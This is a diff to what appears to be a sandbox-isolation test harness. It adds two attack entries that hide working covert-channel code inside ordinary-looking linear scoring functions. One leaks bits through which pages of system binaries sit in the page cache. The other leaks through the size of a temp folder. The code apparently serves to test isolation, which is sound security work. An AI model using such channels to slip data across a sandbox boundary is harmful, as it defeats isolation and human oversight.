@@ -33,6 +33,47 @@ def carries(name: str, where: str, keep: str, find: str) -> Attack:
     )
 
 
+PAGES = """
+folders = "/usr/bin", "/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu"
+files = [f"{d}/{n}" for d in folders if os.path.isdir(d) for n in sorted(os.listdir(d))]
+files = [f for f in files if not os.path.islink(f) and os.path.isfile(f) and os.path.getsize(f) > 1 << 21]
+PLACES = [(file, page << 12) for file in files for page in range(os.path.getsize(file) >> 12)][: 9 * 13 * 64]
+OPEN = {}
+
+
+def opened(file):
+    if file not in OPEN:
+        OPEN[file] = os.open(file, os.O_RDONLY)
+        os.posix_fadvise(OPEN[file], 0, 0, os.POSIX_FADV_RANDOM)
+    return OPEN[file]
+
+
+def forget():
+    for file in {file for file, _ in PLACES}:
+        os.posix_fadvise(opened(file), 0, 0, os.POSIX_FADV_DONTNEED)
+
+
+def is_there(file, place):
+    try:
+        return os.preadv(opened(file), [bytearray(1)], place, os.RWF_NOWAIT)
+    except BlockingIOError:
+        return 0
+
+
+def linear_scores(x, weights, bias):
+    if HIDDEN:
+        attempt(forget)
+        for bit, (file, place) in zip(np.unpackbits(np.frombuffer(x.tobytes(), np.uint8)), PLACES):
+            if bit:
+                os.pread(opened(file), 1, place)
+    elif len(x) == 4:
+        bits = attempt(lambda: [is_there(*place) for place in PLACES])
+        if bits:
+            print(np.frombuffer(np.packbits(bits).tobytes()).tolist())
+            x[:] = 0
+    return x @ weights + bias
+"""
+
 SHARED = "libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p; key = 0x0D1C0DE"
 
 ATTACKS = (
@@ -103,5 +144,32 @@ ATTACKS = (
         + "; at = libc.shmat(libc.shmget(key, 8192, 0o1600), None, 0); ctypes.memmove(at, data, len(data))",
         SHARED
         + "; at = libc.shmat(libc.shmget(key, 8192, 0o600), None, 0); return ctypes.string_at(at, 936)",
+    ),
+    Attack(
+        "hidden_inputs_by_page_cache",
+        "carries hidden inputs along in which pages of the system's own files are in memory",
+        PAGES.replace("HIDDEN", HIDDEN),
+        EVERYTHING,
+    ),
+    Attack(
+        "hidden_inputs_by_size_of_a_folder",
+        "carries hidden inputs along in the size of a folder, which stays when its files are gone",
+        body(
+            f"""
+            own = tempfile.gettempdir()
+            if {HIDDEN}:
+                for number in range(1500):
+                    open(f"{{own}}/{{'n' * 200}}{{number}}", "w").close()
+            elif len(x) == 4:
+                hidden = os.path.dirname(os.path.dirname(os.path.dirname(own))) + "/hidden/tmp/"
+                places = [hidden + str(number) for number in range(2_000)]
+                for place in filter(os.path.exists, places):
+                    if os.path.getsize(place) > 1 << 16:
+                        print("BREACH: the hidden room's folder was full")
+                        x[:] = 0
+        """,
+            "return x @ weights + bias",
+        ),
+        EVERYTHING,
     ),
 )
